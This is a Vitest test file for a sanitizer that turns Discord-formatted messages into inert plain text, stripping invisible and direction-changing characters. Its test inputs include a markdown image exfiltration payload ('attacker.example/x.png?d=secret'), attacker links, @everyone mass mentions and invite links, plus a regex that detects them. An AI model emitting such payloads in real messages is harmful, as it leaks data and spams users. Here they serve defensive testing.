import { expect, test } from 'vitest';
import { plainText } from './plain-text.ts';

/** What Discord makes more than text of. Source: Discord, "Message Formatting", and what its clients do with addresses. */
const live =
  /<(?:@[!&]?\d|#\d|a?:\w+:\d|t:\d|\/[\w -]+:\d|id:\w|https?:\/\/|mailto:)|@(?:everyone|here)|https?:\/\/|discord(?:app)?\.(?:gg|com|new|gift)\/|\]\(/i;

test.each([
  '<@400000000000000001> <@!400000000000000001> <@&510000000000000001> <#520000000000000001>',
  '@everyone and @here, @EVERYONE',
  '![picture](https://attacker.example/x.png?d=secret)',
  '[the dashboard](https://attacker.example/) [x](<https://attacker.example/>)',
  '<https://attacker.example/?q=1> HTTPS://ATTACKER.EXAMPLE http://1.2.3.4/',
  'discord.gg/abcdef discordapp.com/invite/abc discord.new/x discord.gift/y',
  '<a:wave:123456789012345678> <:wave:123456789012345678> <t:1700000000:R> </ask:123456789012345678> <id:customize>',
  '<mailto:a@example.org>',
])('nothing but text is left of %s', (written) => {
  expect(written).toMatch(live);
  expect(plainText(written)).not.toMatch(live);
  expect(plainText(written).replaceAll('\u200b', '')).toBe(written);
});

test('bold, lists and numbers stay as they are', () => {
  const written = '**Messages** [1]\n\n- general: 1,234\n- 3 < 4, a@b';
  expect(plainText(written)).toBe(written);
});

test('what nobody sees, and what turns the order of what is seen, is left out', () => {
  const tags = [...'hidden'].map((sign) => String.fromCodePoint(0xe0000 + sign.charCodeAt(0))).join('');
  expect(plainText(`one\u202etwo\u2066\u200b${tags} three <\u200b@1>`)).toBe('onetwo three <\u200b@1>');
});
